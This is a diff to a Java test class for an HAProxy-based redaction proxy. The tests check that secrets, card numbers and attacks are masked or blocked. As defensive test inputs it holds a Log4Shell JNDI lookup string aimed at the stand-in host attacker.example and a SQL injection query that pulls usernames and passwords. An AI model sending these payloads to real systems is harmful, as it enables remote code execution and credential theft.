@@ -6,6 +6,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
+import com.sun.net.httpserver.Headers;
 import com.sun.net.httpserver.HttpExchange;
 import com.sun.net.httpserver.HttpServer;
 import dev.sluice.standalone.proxy.Cli;
@@ -43,6 +44,8 @@ class HaproxySpoeTest {
             + "\"username\":\"shop\",\"password\":\"" + DB_PASSWORD + "\"}}";
 
     static final String DEBUG_DB_URL = "postgres://app:Vt8qLm2xRz5p@db.internal:5432/app";
+    /** A log excerpt a debug endpoint prints: lines, a tab, a card. */
+    static final String LOG = "12:00:01\tINFO\tcharge ok\r\n12:00:02\tWARN\tretry card 4111 1111 1111 1111\r\n";
 
     @TempDir
     static Path dir;
@@ -52,6 +55,8 @@ class HaproxySpoeTest {
     static final AtomicInteger posts = new AtomicInteger();
     /** The targets {@code /track} received, as sent. */
     static final List<String> TRACKED = new CopyOnWriteArrayList<>();
+    /** The header fields {@code /track} received. */
+    static final List<Headers> TRACKED_HEADERS = new CopyOnWriteArrayList<>();
     static final HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
 
     @BeforeAll
@@ -72,12 +77,29 @@ class HaproxySpoeTest {
             send(ex, 500, "application/json", ERROR_PAGE);
         });
         upstream.createContext("/teapot", ex -> send(ex, 418, "application/json", ERROR_PAGE));
+        upstream.createContext("/log", ex -> {
+            ex.getResponseHeaders().add("etag", "\"v1\"");
+            ex.getResponseHeaders().add("cache-control", "max-age=60");
+            send(ex, "text/plain; charset=utf-8", LOG);
+        });
+        upstream.createContext("/users.gz", ex -> {
+            ex.getResponseHeaders().add("content-encoding", "gzip");
+            send(ex, 200, "application/json", gzip(USERS));
+        });
         upstream.createContext("/debug", ex -> {
             ex.getResponseHeaders().add("x-debug-db", DEBUG_DB_URL);
+            // A binary field (-bin, base64 of a protobuf message whose field 1 is the URL): read decoded.
+            byte[] url = DEBUG_DB_URL.getBytes(StandardCharsets.UTF_8);
+            byte[] detail = new byte[2 + url.length];
+            detail[0] = 0x0a;
+            detail[1] = (byte) url.length;
+            System.arraycopy(url, 0, detail, 2, url.length);
+            ex.getResponseHeaders().add("x-detail-bin", java.util.Base64.getEncoder().encodeToString(detail));
             send(ex, "application/json", CLEAN);
         });
         upstream.createContext("/track", ex -> {
             TRACKED.add(ex.getRequestURI().getRawPath() + "?" + ex.getRequestURI().getRawQuery());
+            TRACKED_HEADERS.add(ex.getRequestHeaders());
             send(ex, "application/json", "{\"ok\":true}");
         });
         upstream.createContext("/orders", ex -> {
@@ -107,12 +129,23 @@ class HaproxySpoeTest {
     }
 
     private static void send(HttpExchange ex, int status, String type, String body) throws IOException {
-        byte[] b = body.getBytes(StandardCharsets.UTF_8);
+        send(ex, status, type, body.getBytes(StandardCharsets.UTF_8));
+    }
+
+    private static void send(HttpExchange ex, int status, String type, byte[] b) throws IOException {
         ex.getResponseHeaders().set("content-type", type);
         ex.getResponseHeaders().set("x-upstream", "yes");
         ex.sendResponseHeaders(status, b.length);
         ex.getResponseBody().write(b);
         ex.close();
+    }
+
+    private static byte[] gzip(String text) throws IOException {
+        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
+        try (java.util.zip.GZIPOutputStream z = new java.util.zip.GZIPOutputStream(out)) {
+            z.write(text.getBytes(StandardCharsets.UTF_8));
+        }
+        return out.toByteArray();
     }
 
     private static HttpResponse<String> get(Haproxy h, String path) throws Exception {
@@ -154,47 +187,61 @@ class HaproxySpoeTest {
         assertEquals("Origin, Accept-Encoding", r.headers().firstValue("vary").orElse(""));
     }
 
-    /** A status the configuration has no return rule for: the route's fail rule (open by default) decides. */
+    /** Any status: sluice.lua answers under the response's own, with its header fields. */
     @Test
-    void aRedactionUnderAStatusHaproxyCannotReturnIsLeftToTheFailRule() throws Exception {
+    void aRedactionIsReturnedUnderTheResponsesOwnStatus() throws Exception {
         HttpResponse<String> r = get(haproxy, "/teapot");
         assertEquals(418, r.statusCode());
-        assertEquals(ERROR_PAGE, r.body(), "fail open: the original passes, reported as an alert");
+        assertFalse(r.body().contains(DB_PASSWORD), r.body());
+        assertEquals("shop", new ObjectMapper().readTree(r.body()).path("datasource").path("username").asText());
+        assertEquals("yes", r.headers().firstValue("x-upstream").orElse(""), "the response's own fields stay");
     }
 
     /**
-     * A secret in a response header: HAProxy applies no header value from the agent, so the
-     * redaction the default policy asks for is left to the fail rule (open by default: the
-     * response passes as it came), and the event says where the secret was and why it stayed.
+     * A text body keeps its line breaks (HAProxy's return rules would have escaped them), the
+     * response keeps every field but its framing, and a gzip body goes back decoded, without
+     * its Content-Encoding.
      */
     @Test
-    void aSecretInAResponseHeaderIsReportedAndLeftToTheFailRule() throws Exception {
+    void aRedactedBodyKeepsItsBytesAndTheResponsesFields() throws Exception {
+        HttpResponse<String> text = get(haproxy, "/log");
+        assertEquals(200, text.statusCode());
+        assertEquals(LOG.replace("4111 1111 1111 1111", "**** **** **** 1111"), text.body());
+        assertEquals("text/plain; charset=utf-8", text.headers().firstValue("content-type").orElse(""));
+        assertEquals("\"v1\"", text.headers().firstValue("etag").orElse(""));
+        assertEquals("max-age=60", text.headers().firstValue("cache-control").orElse(""));
+        assertEquals(String.valueOf(text.body().length()), text.headers().firstValue("content-length").orElse(""));
+
+        HttpResponse<byte[]> gz = client.send(HttpRequest.newBuilder(URI.create(haproxy.url() + "/users.gz"))
+                .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofByteArray());
+        assertEquals(200, gz.statusCode());
+        assertTrue(gz.headers().firstValue("content-encoding").isEmpty(), gz.headers().map().toString());
+        String body = new String(gz.body(), StandardCharsets.UTF_8);
+        assertTrue(body.contains("**** **** **** 1111") && !body.contains("4111 1111 1111 1111"), body);
+    }
+
+    /**
+     * A secret in a response header: sluice.lua sets the agent's masked value in its place (and
+     * removes a binary field, whose base64 text no mask keeps decodable), the body passes as it
+     * came, and the event says the response went on redacted.
+     */
+    @Test
+    void aSecretInAResponseHeaderIsMasked() throws Exception {
         HttpResponse<String> r = get(haproxy, "/debug");
         assertEquals(200, r.statusCode());
         assertEquals(CLEAN, r.body());
-        assertEquals(DEBUG_DB_URL, r.headers().firstValue("x-debug-db").orElse(""));
+        String masked = r.headers().firstValue("x-debug-db").orElse("");
+        assertEquals("[REDACTED:basic_auth_url]/app", masked, "the default policy's fixed mask");
+        assertTrue(r.headers().firstValue("x-detail-bin").isEmpty(), r.headers().map().toString());
+        assertEquals("yes", r.headers().firstValue("x-upstream").orElse(""));
         JsonNode event = SpopAgentTest.awaitEvent(dir.resolve("events.jsonl"), e -> e.path("path").asText().equals("/debug")
                 && e.path("direction").asText().equals("response"));
         assertEquals("header:x-debug-db", event.path("findings").get(0).path("path").asText(), event.toString());
-        assertTrue(event.path("reason").asText().contains(SpoeCheck.NOTE_REDACTION_NOT_POSSIBLE), event.toString());
-        assertEquals("forwarded", event.path("delivery").asText(), event.toString());
+        assertEquals("redacted", event.path("delivery").asText(), event.toString());
         assertFalse(event.toString().contains("Vt8qLm2xRz5p"), "no raw value in the event: " + event);
         // The shipped file gives each transaction an id (unique-id-format) and sends it as X-Request-Id.
         assertTrue(event.path("requestId").asText().matches("[0-9A-F]+:[0-9A-F]+_[0-9A-F]+:[0-9A-F]+_[0-9A-F]+_.+"),
                 event.toString());
-    }
-
-    /** The agent's default statuses are the ones the shipped file has a return rule for, no more, no fewer. */
-    @Test
-    void theShippedReturnRulesAreTheAgentsDefaultStatuses() throws Exception {
-        java.util.TreeSet<Integer> returned = new java.util.TreeSet<>();
-        java.util.regex.Matcher m = java.util.regex.Pattern.compile("(?m)^\\s*http-response return status (\\d+) .*"
-                + "if sluice_redacts \\{ status (\\d+) }$").matcher(Files.readString(DEPLOY.resolve("haproxy.cfg")));
-        while (m.find()) {
-            assertEquals(m.group(1), m.group(2), "each rule returns the status it is for: " + m.group());
-            returned.add(Integer.parseInt(m.group(1)));
-        }
-        assertEquals(dev.sluice.standalone.config.SluiceConfig.DEFAULT_SPOE_REDACT_STATUSES, returned);
     }
 
     @Test
@@ -251,6 +298,11 @@ class HaproxySpoeTest {
                   request:
                     attack: block
                     credit_card: {action: redact, mask: keep_last_4}
+                routes:
+                  - name: neutralise
+                    match: {path: /track/neutral}
+                    request:
+                      attack.log4shell: {action: redact, mask: fixed}
                 """);
         Path agentDir = Files.createDirectories(dir.resolve("redacting-agent"));
         try (SpoeRuntime redacting = SpopAgentTest.start(agentDir, b -> b.policyFile(policy));
@@ -264,13 +316,27 @@ class HaproxySpoeTest {
             HttpResponse<String> plain = get(h, "/track?n=2&q=a+b");
             assertEquals(200, plain.statusCode());
             assertEquals("/track?n=2&q=a+b", TRACKED.getLast(), "a target with nothing to redact goes on as it came");
+
+            // A route that neutralises Log4Shell in place of refusing it: the header reaches the
+            // service masked (sluice.lua), every value of that name in order, the other fields as they came.
+            TRACKED_HEADERS.clear();
+            HttpResponse<String> header = client.send(HttpRequest.newBuilder(URI.create(h.url() + "/track/neutral"))
+                    .header("x-api-version", "${jndi:ldap://attacker.example/a}").header("x-api-version", "2")
+                    .header("x-tenant", "acme").timeout(Duration.ofSeconds(10)).build(),
+                    HttpResponse.BodyHandlers.ofString());
+            assertEquals(200, header.statusCode(), header.body());
+            List<String> received = TRACKED_HEADERS.getFirst().get("x-api-version");
+            assertEquals(2, received.size(), received.toString());
+            assertFalse(received.getFirst().contains("jndi"), received.toString());
+            assertEquals("2", received.get(1));
+            assertEquals("acme", TRACKED_HEADERS.getFirst().getFirst("x-tenant"));
         }
     }
 
     /**
      * A route's own answer to a refused client ({@code block_response}) through HAProxy: its
-     * status, content type and body with the event id, for a request and for a response; a status
-     * the shipped file has no rule for gets the built-in 403.
+     * status, content type, header fields and body with the event id, for a request and for a
+     * response, whatever the status.
      */
     @Test
     void aRoutesOwnAnswerToARefusalIsWhatHaproxySends() throws Exception {
@@ -284,6 +350,7 @@ class HaproxySpoeTest {
                     status: 451
                     content_type: text/html; charset=utf-8
                     body: "<p>Refused. Reference {event_id}.</p>"
+                    headers: {Retry-After: "120", Access-Control-Allow-Origin: "*"}
                 routes:
                   - name: teapot
                     match: {path: /orders/**}
@@ -298,14 +365,18 @@ class HaproxySpoeTest {
             assertTrue(request.body().matches("<p>Refused\\. Reference [A-Za-z0-9._:-]+\\.</p>"), request.body());
             assertEquals("text/html; charset=utf-8", request.headers().firstValue("content-type").orElse(""));
             assertEquals("no-store", request.headers().firstValue("cache-control").orElse(""));
+            assertEquals("120", request.headers().firstValue("retry-after").orElse(""));
+            assertEquals("*", request.headers().firstValue("access-control-allow-origin").orElse(""));
 
             HttpResponse<String> response = get(h, "/fail");
             assertEquals(451, response.statusCode(), "the error page prints a database password: " + response.body());
             assertTrue(response.body().startsWith("<p>Refused. Reference "), response.body());
 
-            HttpResponse<String> unruled = get(h, "/orders/7?q=0%20UNION%20SELECT%20username,password%20FROM%20users--");
-            assertEquals(403, unruled.statusCode(), "418 has no return rule in the shipped file");
-            assertEquals("blocked", new ObjectMapper().readTree(unruled.body()).path("error").asText());
+            assertEquals("120", response.headers().firstValue("retry-after").orElse(""));
+
+            HttpResponse<String> teapot = get(h, "/orders/7?q=0%20UNION%20SELECT%20username,password%20FROM%20users--");
+            assertEquals(418, teapot.statusCode(), "any status the route names");
+            assertEquals("no", teapot.body());
         }
     }
 
@@ -360,7 +431,9 @@ class HaproxySpoeTest {
                     .replace("server app 127.0.0.1:9000", "server app 127.0.0.1:" + upstreamPort)
                     .replace("server grpc_app 127.0.0.1:9001", "server grpc_app 127.0.0.1:" + grpcPort)
                     .replace("server sluice 127.0.0.1:12345", "server sluice 127.0.0.1:" + agentPort)
-                    .replace("config sluice-spoe.conf", "config " + spoe.toAbsolutePath());
+                    .replace("config sluice-spoe.conf", "config " + spoe.toAbsolutePath())
+                    .replace("lua-load-per-thread sluice.lua",
+                            "lua-load-per-thread " + DEPLOY.resolve("sluice.lua").toAbsolutePath());
             if (failClosed) {
                 cfg = cfg.replace("    # http-request deny deny_status 503", "    http-request deny deny_status 503")
                         .replace("    # http-response deny deny_status 503", "    http-response deny deny_status 503");
